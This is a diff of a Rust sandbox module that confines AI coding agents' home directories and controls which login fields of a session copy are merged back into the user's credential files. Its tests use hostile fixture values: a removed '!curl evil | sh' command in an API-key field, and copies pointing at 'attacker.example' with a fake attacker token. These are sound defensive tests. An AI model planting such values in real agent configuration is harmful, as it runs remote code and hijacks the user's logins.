@@ -1,25 +1,35 @@
 //! The agent's own home directories (`~/.codex`, `~/.claude`, `~/.gemini`...) as the jail
-//! sees them: what the agent must write to work (sessions, history, logins, caches: the
-//! profile's `agent.state`) stays writable and persists; everything else there that exists
-//! is read-only, since the agent outside reads it to decide what to run (settings with hooks,
-//! MCP servers, notify commands, plugins, the user's own scripts); the names it would load
-//! such things from get read-only placeholders where missing (`agent.guard`); settings it
-//! rewrites itself are session copies (`agent.session`), and a file it keeps state and
-//! commands in at once (`~/.claude.json`) is a copy whose harmless keys go back at exit
-//! (`agent.merge`, carried out by `jail::agent_copies`). The plan decides; nothing here
-//! touches the host.
+//! sees them. Allow-listed: what the agent must keep to work (sessions, history, logins,
+//! caches: the profile's `agent.state`) is bound writable from your directory and persists;
+//! everything else there is the session's own (`MountSpec::Layer`: an overlay whose writes are
+//! dropped at exit, or the directory read-only where no overlay can be made), since the agent
+//! outside reads it to decide what to run (settings with hooks, MCP servers, notify commands,
+//! plugins, environments, rules, the user's own scripts), whatever its name. A missing state
+//! entry is made beforehand (a directory, a JSON file holding `{}`, an empty `.jsonl`), so
+//! that its bind has somewhere to go. A file the agent keeps state and commands in at once
+//! (`~/.claude.json`) is a copy whose harmless keys go back at exit (`agent.merge`, carried
+//! out by `jail::agent_copies`).
+//!
+//! The same holds for the other built-in agents' directories wherever a session can write
+//! them (`~/.cache/opencode` under the built-in `~/.cache`, all of them with `home.access =
+//! "write"` or `--rw ~/.codex`): their state stays writable, their configuration is the
+//! session's own, and a missing one is a read-only placeholder. The plan decides; nothing
+//! here touches the host.
 
-use super::fs::{Builder, MountSpec};
+use super::fs::{under, Builder, MountSpec};
 use super::mounts::{home_entry, pin_ancestors};
 use super::{entry_err, Placeholder, PlanError};
 use crate::host::Kind;
 use crate::policy::merge::Source;
+use crate::policy::schema::MergeSpec;
 use crate::policy::Policy;
 use serde::{Deserialize, Serialize};
 use std::path::{Component, Path, PathBuf};
+use std::sync::OnceLock;
 
 /// A file of the agent's given to the jail as a copy (in the state directory, bound over the
-/// file), of which only `keys` are written back into `file` when the session ends.
+/// file), of which only `keys` are written back into `file` when the session ends; `strip`
+/// names keys the copy is made without (a key the jail must not read).
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct MergeBack {
     #[serde(with = "super::os_path")]
@@ -27,6 +37,8 @@ pub struct MergeBack {
     #[serde(with = "super::os_path")]
     pub copy: PathBuf,
     pub keys: Vec<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub strip: Vec<String>,
 }
 
 /// What the agent's home adds to the plan besides its mounts.
@@ -71,43 +83,97 @@ fn parts(rel: &Path) -> Vec<String> {
         .collect()
 }
 
-/// The agent's directories: the profile's `home.write` entries written as directories.
-fn agent_dirs(policy: &Policy, home: &Path) -> Vec<PathBuf> {
-    let mut dirs: Vec<PathBuf> = vec![];
-    for e in &policy.home_write {
-        if !matches!(e.source, Source::Profile(_)) || !e.value.ends_with('/') {
-            continue;
-        }
-        if let Some(rel) = home_entry(&e.value) {
-            let p = home.join(rel);
-            if !dirs.contains(&p) {
-                dirs.push(p);
-            }
-        }
-    }
-    dirs
+/// One agent's rules: the session's own profile, or another built-in one.
+struct Rules {
+    /// Its directories (`home.write` entries ending in `/`), files (other `home.write`
+    /// entries) and what it reads (`home.read`).
+    dirs: Vec<PathBuf>,
+    files: Vec<PathBuf>,
+    reads: Vec<(PathBuf, bool)>,
+    state_raw: Vec<String>,
+    state: Patterns,
+    session_raw: Vec<String>,
+    session: Patterns,
+    merge: Vec<MergeSpec>,
+    /// A key the jail does not hold (injected from outside): the merged files' keys that
+    /// hold it are left out of the copy.
+    strip: Vec<String>,
 }
 
-/// The rules of one plan's agent home, and what they made so far.
+impl Rules {
+    fn of(
+        agent: &crate::policy::schema::AgentSection,
+        write: &[String],
+        read: &[String],
+        home: &Path,
+    ) -> Result<Rules, PlanError> {
+        let mut r = Rules {
+            dirs: vec![],
+            files: vec![],
+            reads: vec![],
+            state_raw: agent.state.clone().unwrap_or_default(),
+            state: Patterns::of(agent.state.as_ref(), "agent.state")?,
+            session_raw: agent.session.clone().unwrap_or_default(),
+            session: Patterns::of(agent.session.as_ref(), "agent.session")?,
+            merge: agent.merge.clone().unwrap_or_default(),
+            strip: vec![],
+        };
+        for w in write {
+            let Some(rel) = home_entry(w) else { continue };
+            let p = home.join(rel);
+            let list = if w.ends_with('/') { &mut r.dirs } else { &mut r.files };
+            if !list.contains(&p) {
+                list.push(p);
+            }
+        }
+        for e in read {
+            if let Some(rel) = home_entry(e) {
+                r.reads.push((home.join(rel), e.ends_with('/')));
+            }
+        }
+        Ok(r)
+    }
+
+    fn writes_inside(&self, home: &Path, d: &Path) -> bool {
+        let rel = parts(d.strip_prefix(home).unwrap_or(d));
+        self.state.below(&rel)
+            || self.session.below(&rel)
+            || self.merge.iter().any(|m| home_entry(&m.file).is_some_and(|f| under(&home.join(f), d)))
+    }
+}
+
+/// The built-in profiles' agents: name, `home.write`, `home.read`, `[agent]`; parsed once.
+type Builtin = (String, Vec<String>, Vec<String>, crate::policy::schema::AgentSection);
+
+fn builtin_agents() -> &'static [Builtin] {
+    static AGENTS: OnceLock<Vec<Builtin>> = OnceLock::new();
+    AGENTS.get_or_init(|| {
+        crate::policy::BUILTIN_PROFILES
+            .iter()
+            .filter_map(|(name, text)| {
+                let path = PathBuf::from(format!("<built-in profiles/{name}.toml>"));
+                let layer = crate::policy::parse_layer(text, &path, crate::policy::FileKind::Profile).ok()?;
+                let home = layer.home.unwrap_or_default();
+                Some((name.to_string(), home.write.unwrap_or_default(), home.read.unwrap_or_default(), layer.agent?))
+            })
+            .collect()
+    })
+}
+
+/// The state of one plan's confinement: what it made so far.
 struct Walk<'p> {
     home: &'p Path,
-    state: Patterns,
-    session: Patterns,
-    guard: Patterns,
-    /// The instruction file has a mount of its own (`instructions.rs`), and so have the
-    /// merged files.
-    instructions: Option<PathBuf>,
-    merged: Vec<PathBuf>,
     /// The trees the jail writes: a read-only bind inside one pins its parents there.
     writable: &'p [PathBuf],
+    /// Overlays can be made here (`HostFacts::overlay_in_userns`).
+    layers: bool,
+    copies: &'p Path,
     out: Confined,
+    /// Directories already confined (the session's own agent's first).
+    done: Vec<PathBuf>,
 }
 
 impl Walk<'_> {
-    fn rel(&self, p: &Path) -> Vec<String> {
-        parts(p.strip_prefix(self.home).unwrap_or(p))
-    }
-
     /// The innermost writable tree `p` lies strictly inside.
     fn tree_of(&self, p: &Path) -> Option<&Path> {
         self.writable
@@ -117,6 +183,11 @@ impl Walk<'_> {
             .map(PathBuf::as_path)
     }
 
+    /// `p` lies in a tree the jail writes (or is one).
+    fn reachable(&self, p: &Path) -> bool {
+        self.writable.iter().any(|w| under(p, w))
+    }
+
     fn read_only(&mut self, b: &mut Builder<'_>, p: &Path, dir: bool) {
         if let Some(w) = self.tree_of(p) {
             pin_ancestors(b, w, p);
@@ -124,159 +195,312 @@ impl Walk<'_> {
         b.push(MountSpec::Bind { source: p.to_path_buf(), target: p.to_path_buf(), rw: false, dir });
     }
 
-    /// The entries of `dir` (itself writable): state stays, session files become copies, a
-    /// directory with state below it is walked, anything else is bound read-only.
-    fn dir(&mut self, b: &mut Builder<'_>, dir: &Path) -> Result<(), PlanError> {
-        let names = b.fs.read_dir(dir);
-        for name in names.iter() {
+    /// A missing name a later agent outside would read: an empty read-only placeholder for
+    /// the session (removed afterwards), so the jail cannot make it.
+    fn placeholder(&mut self, b: &mut Builder<'_>, p: &Path, dir: bool) {
+        if self.out.placeholders.iter().any(|ph| p.starts_with(&ph.path)) {
+            return;
+        }
+        let json = !dir && p.extension().is_some_and(|e| e == "json");
+        self.out.placeholders.push(Placeholder { path: p.to_path_buf(), dir, json });
+        self.read_only(b, p, dir);
+    }
+
+    /// The agent directory `d` for the session: its own layer (or read-only), the masks and
+    /// pins made inside it earlier put back on top, then its state bound writable from the
+    /// host, each missing literal entry made first.
+    fn confine_dir(&mut self, b: &mut Builder<'_>, rules: &Rules, d: &Path, own: bool) -> Result<(), PlanError> {
+        self.no_links(b, rules, d)?;
+        if let Some(w) = self.tree_of(d) {
+            pin_ancestors(b, w, d);
+        }
+        let earlier: Vec<MountSpec> = b
+            .mounts
+            .iter()
+            .filter(|m| matches!(m, MountSpec::Mask { .. } | MountSpec::Pin { .. }))
+            .filter(|m| under(m.target(), d) && m.target() != d)
+            .cloned()
+            .collect();
+        if self.layers {
+            b.push(MountSpec::Layer { source: d.to_path_buf(), target: d.to_path_buf() });
+        } else {
+            b.push(MountSpec::Bind { source: d.to_path_buf(), target: d.to_path_buf(), rw: false, dir: true });
+        }
+        for m in earlier {
+            b.push(m);
+        }
+        // What the policy hides there, masked again over the layer, which shows your
+        // directory as it is (a home bound whole was rebuilt without them, with no mask).
+        let hidden: Vec<(PathBuf, bool)> = b
+            .hidden
+            .all()
+            .filter(|h| under(h, d) && h.as_path() != d)
+            .filter_map(|h| b.fs.kind(h).map(|k| (h.clone(), k == Kind::Dir)))
+            .collect();
+        for (h, dir) in hidden {
+            let masked = b
+                .mounts
+                .iter()
+                .rev()
+                .take_while(|m| m.target() != d)
+                .any(|m| matches!(m, MountSpec::Mask { target, .. } if *target == h));
+            if !masked {
+                b.push(MountSpec::Mask { target: h, dir });
+            }
+        }
+        for raw in &rules.state_raw {
+            let Some(rel) = home_entry(raw.trim_end_matches('/')) else { continue };
+            let p = self.home.join(rel);
+            if !under(&p, d) || p == d {
+                continue;
+            }
+            for q in super::fs::expand_glob(b.fs, &p) {
+                if b.hidden.covers(&q) {
+                    continue;
+                }
+                match b.fs.kind(&q) {
+                    // A link is not followed (the bind would refuse it at start): the jail
+                    // sees it as the layer shows it, and cannot change it.
+                    Some(Kind::Symlink) => {}
+                    Some(k) => b.push(MountSpec::Bind { source: q.clone(), target: q, rw: true, dir: k == Kind::Dir }),
+                    None if !own || crate::glob::has_glob(&q.to_string_lossy()) => {}
+                    None => {
+                        let dir = raw.ends_with('/');
+                        let name = q.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
+                        if !dir && !name.ends_with(".json") && !name.ends_with(".jsonl") {
+                            // Made by the agent in the session's layer; it persists once the
+                            // agent has made it outside.
+                            continue;
+                        }
+                        self.make_parents(b, d, &q);
+                        let list = if dir { &mut b.home_dirs } else { &mut b.home_files };
+                        if !list.contains(&q) {
+                            list.push(q.clone());
+                        }
+                        b.push(MountSpec::Bind { source: q.clone(), target: q, rw: true, dir });
+                    }
+                }
+            }
+        }
+        if !self.layers {
+            // Read-only: the settings the agent rewrites are a copy for the session.
+            for raw in &rules.session_raw {
+                let Some(rel) = home_entry(raw.trim_end_matches('/')) else { continue };
+                let p = self.home.join(rel);
+                if !under(&p, d) || p == d || b.hidden.covers(&p) {
+                    continue;
+                }
+                match b.fs.kind(&p) {
+                    Some(Kind::File) => b.push(MountSpec::SessionCopy { target: p }),
+                    Some(Kind::Dir) => b.push(MountSpec::Tmpfs { target: p, mode: 0o700 }),
+                    // A directory the agent makes at its start (Claude Code's session-env/):
+                    // made now, empty, as the tmpfs's mount point.
+                    None if raw.ends_with('/') => {
+                        self.make_parents(b, d, &p);
+                        if !b.home_dirs.contains(&p) {
+                            b.home_dirs.push(p.clone());
+                        }
+                        b.push(MountSpec::Tmpfs { target: p, mode: 0o700 });
+                    }
+                    _ => {}
+                }
+            }
+        }
+        self.done.push(d.to_path_buf());
+        Ok(())
+    }
+
+    /// No symbolic link among the entries of `dir` (and of its directories with state or
+    /// session entries below): a write through one would land wherever it leads, in a tree
+    /// the jail writes perhaps, where the agent outside reads it. A state entry may be one
+    /// (left as it is, never bound).
+    fn no_links(&self, b: &Builder<'_>, rules: &Rules, dir: &Path) -> Result<(), PlanError> {
+        for name in b.fs.read_dir(dir).iter() {
             let p = dir.join(name);
-            let rel = self.rel(&p);
-            let own_mount = self.instructions.as_deref() == Some(p.as_path()) || self.merged.contains(&p);
-            if b.hidden.covers(&p) || own_mount || self.state.matches(&rel) {
+            let rel = parts(p.strip_prefix(self.home).unwrap_or(&p));
+            if b.hidden.covers(&p) || rules.state.matches(&rel) {
                 continue;
             }
-            let kind = b.fs.kind(&p);
-            if kind == Some(Kind::Symlink) {
-                // A link cannot be mounted over, and the jail could replace it with a file of
-                // its own that the agent outside then reads.
-                return Err(PlanError::AgentSymlink { path: p });
-            }
-            if self.session.matches(&rel) && kind == Some(Kind::File) {
-                b.push(MountSpec::SessionCopy { target: p });
-                continue;
-            }
-            let walk_in = kind == Some(Kind::Dir)
-                && (self.state.below(&rel) || self.session.below(&rel) || self.guard.below(&rel));
-            match kind {
-                Some(Kind::Dir) if walk_in => self.dir(b, &p)?,
-                Some(k) => self.read_only(b, &p, k == Kind::Dir),
-                None => {}
+            match b.fs.kind(&p) {
+                Some(Kind::Symlink) => return Err(PlanError::AgentSymlink { path: p }),
+                Some(Kind::Dir) if rules.state.below(&rel) || rules.session.below(&rel) => {
+                    self.no_links(b, rules, &p)?
+                }
+                _ => {}
             }
         }
         Ok(())
     }
 
-    /// Guarded names that do not exist: made read-only placeholders (their missing parents,
-    /// directories of the agent's own, are made and kept). A guard below something already
-    /// read-only needs none. A missing session file gets a placeholder too, as the copy's
-    /// mount point.
-    fn missing(&mut self, b: &mut Builder<'_>, dirs: &[PathBuf], raw: &[String], session: bool) {
-        for entry in raw {
-            let Some(rel) = home_entry(entry.trim_end_matches('/')) else { continue };
-            let p = self.home.join(&rel);
-            if !dirs.iter().any(|d| p.starts_with(d) && &p != d) || b.hidden.covers(&p) {
-                continue;
-            }
-            if crate::glob::has_glob(&p.to_string_lossy()) || b.fs.kind(&p).is_some() {
-                continue;
-            }
-            if self.instructions.as_deref() == Some(p.as_path()) || self.merged.contains(&p) {
-                continue;
-            }
-            // Already inside an entry bound read-only, or another placeholder: nothing can
-            // make it.
-            let in_agent_dir = |t: &PathBuf| dirs.iter().any(|d| t.starts_with(d) && t != d);
-            let covered = b.mounts.iter().any(|m| {
-                matches!(m, MountSpec::Bind { target, rw: false, .. }
-                    if in_agent_dir(target) && p.starts_with(target) && &p != target)
-            }) || self.out.placeholders.iter().any(|ph| p.starts_with(&ph.path));
-            if covered {
-                continue;
-            }
-            // Parents the agent would make itself (`~/.pi/agent`): made now, and kept.
-            let mut parent = p.parent().map(Path::to_path_buf);
-            let mut make = vec![];
-            while let Some(d) = parent.filter(|d| b.fs.kind(d).is_none() && d.starts_with(self.home)) {
-                make.push(d.clone());
-                parent = d.parent().map(Path::to_path_buf);
-            }
-            for d in make.into_iter().rev() {
-                if !b.home_dirs.contains(&d) {
-                    b.home_dirs.push(d);
-                }
-            }
-            let dir = entry.ends_with('/') && !session;
-            if let Some(w) = self.tree_of(&p) {
-                pin_ancestors(b, w, &p);
-            }
-            // An empty JSON file stops some agents ("Unexpected end of JSON input"): a JSON
-            // name's placeholder holds `{}`.
-            let json = p.extension().is_some_and(|e| e == "json") && !dir;
-            self.out.placeholders.push(Placeholder { path: p.clone(), dir, json });
-            match session {
-                true => b.push(MountSpec::SessionCopy { target: p }),
-                false => b.push(MountSpec::Bind { source: p.clone(), target: p, rw: false, dir }),
+    /// The missing directories between `d` and `q`: made by the launcher, and kept.
+    fn make_parents(&self, b: &mut Builder<'_>, d: &Path, q: &Path) {
+        let mut make = vec![];
+        let mut parent = q.parent();
+        while let Some(p) = parent.filter(|p| p.starts_with(d) && *p != d && b.fs.kind(p).is_none()) {
+            make.push(p.to_path_buf());
+            parent = p.parent();
+        }
+        for p in make.into_iter().rev() {
+            if !b.home_dirs.contains(&p) {
+                b.home_dirs.push(p);
             }
         }
     }
+
+    /// The next copy's path in the state directory.
+    fn next_copy(&self) -> PathBuf {
+        self.copies.join(self.out.merges.len().to_string())
+    }
 }
 
-/// Confines the agent's home directories as the profile says (see the module's doc), and
+/// Confines the agents' home directories as their profiles say (see the module's doc), and
 /// gives the files of `agent.merge` as copies in `copies` (the state directory's, per
-/// session). Nothing for a command without a profile, or one whose profile lists no state.
+/// session). `layers`: session overlays can be made (else read-only directories).
+/// `injected`: the session's own agent's key is injected from outside (its merged files'
+/// `strip` keys are left out of the copies).
+#[allow(clippy::too_many_arguments)]
 pub fn confine(
     b: &mut Builder<'_>,
     policy: &Policy,
     home: &Path,
     writable: &[PathBuf],
-    instructions: Option<PathBuf>,
     copies: &Path,
+    layers: bool,
+    injected: bool,
 ) -> Result<Confined, PlanError> {
-    let Some(agent) = policy.agent.as_ref().map(|a| &a.value) else { return Ok(Confined::default()) };
-    if agent.state.is_none() && agent.session.is_none() && agent.guard.is_none() && agent.merge.is_none() {
-        return Ok(Confined::default());
+    let mut walk = Walk { home, writable, layers, copies, out: Confined::default(), done: vec![] };
+    let own = policy.agent.as_ref().map(|a| &a.value);
+    if let Some(agent) = own.filter(|a| a.state.is_some() || a.session.is_some() || a.merge.is_some()) {
+        let write: Vec<String> = policy
+            .home_write
+            .iter()
+            .filter(|e| matches!(e.source, Source::Profile(_)))
+            .map(|e| e.value.clone())
+            .collect();
+        let mut rules = Rules::of(agent, &write, &[], home)?;
+        if injected {
+            rules.strip = STRIP_WHEN_INJECTED.iter().map(|s| s.to_string()).collect();
+        }
+        confine_own(b, &mut walk, &rules, policy)?;
     }
-    let mut walk = Walk {
-        home,
-        state: Patterns::of(agent.state.as_ref(), "agent.state")?,
-        session: Patterns::of(agent.session.as_ref(), "agent.session")?,
-        guard: Patterns::of(agent.guard.as_ref(), "agent.guard")?,
-        instructions,
-        merged: vec![],
-        writable,
-        out: Confined::default(),
-    };
-    let dirs = agent_dirs(policy, home);
-    for (i, m) in agent.merge.iter().flatten().enumerate() {
-        if let Some(merge) = merge_copy(b, policy, home, &dirs, m, &copies.join(i.to_string()))? {
-            walk.merged.push(merge.file.clone());
+    let own_name = own.and_then(|a| a.name.clone());
+    for (name, write, read, agent) in builtin_agents() {
+        if own_name.as_deref() == Some(name.as_str()) {
+            continue;
+        }
+        let rules = Rules::of(agent, write, read, home)?;
+        confine_other(b, &mut walk, &rules)?;
+    }
+    Ok(walk.out)
+}
+
+/// The keys of an agent's merged file that hold a key of its own, left out of the session's
+/// copy when the key is injected from outside: Claude Code keeps the API key you gave it in
+/// `~/.claude.json` (`primaryApiKey`).
+const STRIP_WHEN_INJECTED: &[&str] = &["primaryApiKey"];
+
+fn confine_own(b: &mut Builder<'_>, walk: &mut Walk<'_>, rules: &Rules, policy: &Policy) -> Result<(), PlanError> {
+    // The merged files first (a home.write file's bind takes the copy as its source now);
+    // the bind of a copy inside a directory goes on top of the directory's layer, after it.
+    let mut later = vec![];
+    for m in &rules.merge {
+        let copy = walk.next_copy();
+        if let Some((merge, bind)) = merge_copy(b, policy, walk.home, &rules.dirs, m, &copy, &rules.strip)? {
+            walk.done.push(merge.file.clone());
             walk.out.merges.push(merge);
+            later.extend(bind);
         }
     }
-    for d in &dirs {
-        let rel = walk.rel(d);
-        let writes_inside = walk.state.below(&rel)
-            || walk.session.below(&rel)
-            || walk.guard.below(&rel)
-            || walk.merged.iter().any(|m| m.starts_with(d));
+    for d in &rules.dirs {
+        if b.hidden.covers(d) {
+            continue;
+        }
         let is_dir = b.fs.kind(d) == Some(Kind::Dir);
         // Made by the launcher before the session (`home_dirs`): empty.
         if !is_dir && !b.home_dirs.contains(d) {
             continue;
         }
-        if !writes_inside {
-            // Nothing of the agent's to write here (opencode's config directory): all of it
+        if rules.writes_inside(walk.home, d) {
+            walk.confine_dir(b, rules, d, true)?;
+        } else {
+            // Nothing of the agent's to keep here (opencode's config directory): all of it
             // read-only, new names included. The instruction file's mount goes on top.
             walk.read_only(b, d, true);
-        } else if is_dir {
-            walk.dir(b, d)?;
+            walk.done.push(d.clone());
         }
     }
-    walk.missing(b, &dirs, agent.session.as_deref().unwrap_or_default(), true);
-    walk.missing(b, &dirs, agent.guard.as_deref().unwrap_or_default(), false);
-    Ok(walk.out)
+    for m in later {
+        b.push(m);
+    }
+    Ok(())
 }
 
-/// The copy of a merged file: bound where the file's own bind would have gone. None for a
-/// hidden file (a login the policy hides): its mask stays, and no copy of it is made.
+/// Another built-in agent's directories and files where this session could write them.
+fn confine_other(b: &mut Builder<'_>, walk: &mut Walk<'_>, rules: &Rules) -> Result<(), PlanError> {
+    let taken = |walk: &Walk<'_>, p: &Path| walk.done.iter().any(|d| under(p, d) || under(d, p));
+    for d in &rules.dirs {
+        if !walk.reachable(d) || b.hidden.covers(d) || taken(walk, d) {
+            continue;
+        }
+        match b.fs.kind(d) {
+            Some(Kind::Symlink) => return Err(PlanError::AgentSymlink { path: d.clone() }),
+            Some(Kind::Dir) if rules.writes_inside(walk.home, d) => walk.confine_dir(b, rules, d, false)?,
+            Some(Kind::Dir) => {
+                walk.read_only(b, d, true);
+                walk.done.push(d.clone());
+            }
+            Some(_) => {}
+            None if walk.reachable(d.parent().unwrap_or(d))
+                && d.parent().is_some_and(|p| b.fs.kind(p) == Some(Kind::Dir)) =>
+            {
+                walk.placeholder(b, d, true);
+                walk.done.push(d.clone());
+            }
+            None => {}
+        }
+    }
+    // Its files (`~/.claude.json`) and what it reads (`~/.aider.conf.yml`): a merged file is a
+    // copy whose listed keys go back; any other is read-only, a missing one a placeholder.
+    let files = rules.files.iter().map(|f| (f.clone(), false)).chain(rules.reads.iter().cloned());
+    for (f, dir) in files.collect::<Vec<_>>() {
+        // A hidden one that exists stays hidden; a missing one (aider's ~/.aider.conf.yml is
+        // in the catalogue) still must not be made.
+        if !walk.reachable(&f) || f == walk.home || taken(walk, &f) || (b.hidden.covers(&f) && b.fs.kind(&f).is_some())
+        {
+            continue;
+        }
+        let merge = rules.merge.iter().find(|m| home_entry(&m.file).is_some_and(|r| walk.home.join(r) == f));
+        match (b.fs.kind(&f), merge) {
+            (Some(Kind::Symlink), _) => return Err(PlanError::AgentSymlink { path: f }),
+            (Some(Kind::File), Some(m)) => {
+                let copy = walk.next_copy();
+                if let Some(w) = walk.tree_of(&f) {
+                    pin_ancestors(b, w, &f);
+                }
+                b.push(MountSpec::Bind { source: copy.clone(), target: f.clone(), rw: true, dir: false });
+                walk.out.merges.push(MergeBack { file: f.clone(), copy, keys: m.keys.clone(), strip: vec![] });
+            }
+            (Some(k), _) => walk.read_only(b, &f, k == Kind::Dir),
+            (None, _) if f.parent().is_some_and(|p| b.fs.kind(p) == Some(Kind::Dir)) => walk.placeholder(b, &f, dir),
+            (None, _) => {}
+        }
+        walk.done.push(f);
+    }
+    Ok(())
+}
+
+/// The copy of a merged file, and the bind of it still to push (for a file inside one of
+/// the agent's directories: over the directory's layer). None for a hidden file (a login the
+/// policy hides): its mask stays, and no copy of it is made.
 fn merge_copy(
     b: &mut Builder<'_>,
     policy: &Policy,
     home: &Path,
     dirs: &[PathBuf],
-    m: &crate::policy::schema::MergeSpec,
+    m: &MergeSpec,
     copy: &Path,
-) -> Result<Option<MergeBack>, PlanError> {
+    strip: &[String],
+) -> Result<Option<(MergeBack, Option<MountSpec>)>, PlanError> {
     let Some(rel) = home_entry(&m.file) else {
         return Err(entry_err("agent.merge", &m.file, "must be a plain path relative to ~ (e.g. .claude.json)"));
     };
@@ -290,9 +514,7 @@ fn merge_copy(
         return Err(entry_err("agent.merge", &m.file, "must be one of the profile's home.write files, or inside one"));
     }
     for k in &m.keys {
-        if k.is_empty() || k.split('.').any(str::is_empty) {
-            return Err(entry_err("agent.merge", k, "a key is a dotted path of names (`projects.*.lastCost`)"));
-        }
+        check_key(k)?;
     }
     let mut bound = false;
     for mount in b.mounts.iter_mut() {
@@ -303,14 +525,16 @@ fn merge_copy(
             }
         }
     }
+    let mut later = None;
     if !bound {
         // Inside one of the agent's directories: the file must exist as the copy's mount point.
         if b.fs.kind(&file).is_none() && !b.home_files.contains(&file) {
             b.home_files.push(file.clone());
         }
-        b.push(MountSpec::Bind { source: copy.to_path_buf(), target: file.clone(), rw: true, dir: false });
+        later = Some(MountSpec::Bind { source: copy.to_path_buf(), target: file.clone(), rw: true, dir: false });
     }
-    Ok(Some(MergeBack { file, copy: copy.to_path_buf(), keys: m.keys.clone() }))
+    let merge = MergeBack { file, copy: copy.to_path_buf(), keys: m.keys.clone(), strip: strip.to_vec() };
+    Ok(Some((merge, later)))
 }
 
 /// Writes the listed keys of `copy` (what the agent left in its session copy) into `real`
@@ -328,8 +552,9 @@ pub fn merge_keys(real: &mut serde_json::Value, copy: &serde_json::Value, keys: 
 fn merge_path(real: &mut serde_json::Value, copy: &serde_json::Value, path: &[&str]) {
     let (Some((first, rest)), Some(from)) = (path.split_first(), copy.as_object()) else { return };
     let Some(into) = real.as_object_mut() else { return };
-    // `name[field=value]`: only an object whose field holds that string (`*[type=oauth]`: a
-    // login, never an entry whose key is a command).
+    // `name[field=value]`: only an object whose field holds that string, in the copy and in
+    // your file if it has one of that name (`anthropic[type=oauth]`: a login, which never
+    // replaces an entry of another type, whose key could be a command).
     let (first, only) = match first.strip_suffix(']').and_then(|f| f.split_once('[')) {
         Some((name, cond)) => (name, cond.split_once('=')),
         None => (*first, None),
@@ -338,23 +563,52 @@ fn merge_path(real: &mut serde_json::Value, copy: &serde_json::Value, path: &[&s
         "*" => from.keys().collect(),
         name => from.keys().filter(|k| k.as_str() == name).collect(),
     };
+    let holds =
+        |v: &serde_json::Value, (field, want): (&str, &str)| v.get(field).and_then(|v| v.as_str()) == Some(want);
     for name in names {
         let value = &from[name.as_str()];
-        if let Some((field, want)) = only {
-            if value.get(field).and_then(|v| v.as_str()) != Some(want) {
+        if let Some(cond) = only {
+            if !holds(value, cond) || into.get(name.as_str()).is_some_and(|mine| !holds(mine, cond)) {
                 continue;
             }
         }
         if rest.is_empty() {
             into.insert(name.clone(), value.clone());
         } else if value.is_object() {
-            let slot = into.entry(name.clone()).or_insert_with(|| serde_json::json!({}));
+            // A new entry starts as what its condition says, and is kept only if a listed
+            // field of it came back.
+            let fresh = match only {
+                Some((field, want)) => serde_json::json!({ field: want }),
+                None => serde_json::json!({}),
+            };
+            let had = into.contains_key(name.as_str());
+            let mut slot = into.get(name.as_str()).cloned().unwrap_or_else(|| fresh.clone());
             if !slot.is_object() {
                 continue;
             }
-            merge_path(slot, value, rest);
+            merge_path(&mut slot, value, rest);
+            if had || slot != fresh {
+                into.insert(name.clone(), slot);
+            }
         }
     }
+}
+
+/// A merged key names what goes back field by field: a condition (`name[type=oauth]`)
+/// selects an object whose fields are then listed, never the whole object, which could hold
+/// a host or a command.
+fn check_key(k: &str) -> Result<(), PlanError> {
+    if k.is_empty() || k.split('.').any(str::is_empty) {
+        return Err(entry_err("agent.merge", k, "a key is a dotted path of names (`projects.*.lastCost`)"));
+    }
+    if k.rsplit('.').next().is_some_and(|last| last.ends_with(']')) {
+        return Err(entry_err(
+            "agent.merge",
+            k,
+            "a condition selects an object whose fields are then listed (`anthropic[type=oauth].refresh`), never the whole object",
+        ));
+    }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -392,22 +646,41 @@ mod tests {
         assert_eq!(real, json!({"x": 1}));
     }
 
-    /// pi's auth.json: a login goes back whole; an api_key entry, whose key may be a
-    /// `!command`, does not.
+    /// pi's auth.json (issue 32, F3): only the listed token fields of a login go back, never
+    /// a field that names a host (`enterpriseUrl`), never a whole object; a login never
+    /// replaces your entry of another type (an api_key entry, whose key may be a
+    /// `!command`); a new login is kept only if a listed field came back.
     #[test]
-    fn a_condition_on_a_field_lets_only_such_entries_back() {
-        let mut real = json!({"anthropic": {"type": "api_key", "key": "sk-mine"}});
+    fn only_the_listed_fields_of_a_login_go_back_and_never_over_another_type() {
+        let mut real = json!({
+            "anthropic": {"type": "api_key", "key": "sk-mine"},
+            "openai-codex": {"type": "oauth", "access": "old", "refresh": "r0", "expires": 1}
+        });
         let copy = json!({
-            "anthropic": {"type": "api_key", "key": "!curl evil | sh"},
-            "openai": {"type": "oauth", "access": "a", "refresh": "r", "expires": 1},
+            "anthropic": {"type": "oauth", "access": "x", "refresh": "y", "expires": 1},
+            "openai-codex": {"type": "oauth", "access": "new", "refresh": "r1", "expires": 2,
+                             "enterpriseUrl": "attacker.example", "baseUrl": "http://attacker"},
+            "github-copilot": {"type": "oauth", "refresh": "ghu_ATTACKER", "enterpriseUrl": "attacker.example"},
             "x": "not an object"
         });
-        merge_keys(&mut real, &copy, &["*[type=oauth]".into()]);
+        let keys: Vec<String> = ["anthropic", "openai-codex"]
+            .iter()
+            .flat_map(|p| ["access", "refresh", "expires"].map(|f| format!("{p}[type=oauth].{f}")))
+            .collect();
+        merge_keys(&mut real, &copy, &keys);
         assert_eq!(
             real,
             json!({"anthropic": {"type": "api_key", "key": "sk-mine"},
-                   "openai": {"type": "oauth", "access": "a", "refresh": "r", "expires": 1}})
+                   "openai-codex": {"type": "oauth", "access": "new", "refresh": "r1", "expires": 2}})
         );
+        // A new login: its listed fields, nothing else; one with none of them is not made.
+        let mut real = json!({});
+        let copy = json!({"openai-codex": {"type": "oauth", "refresh": "r", "proxy": "p"},
+                          "anthropic": {"type": "oauth", "enterpriseUrl": "e"}});
+        merge_keys(&mut real, &copy, &keys);
+        assert_eq!(real, json!({"openai-codex": {"type": "oauth", "refresh": "r"}}));
+        // A whole object behind a condition is refused in a profile.
+        assert!(check_key("*[type=oauth]").is_err() && check_key("anthropic[type=oauth].refresh").is_ok());
     }
 
     #[test]
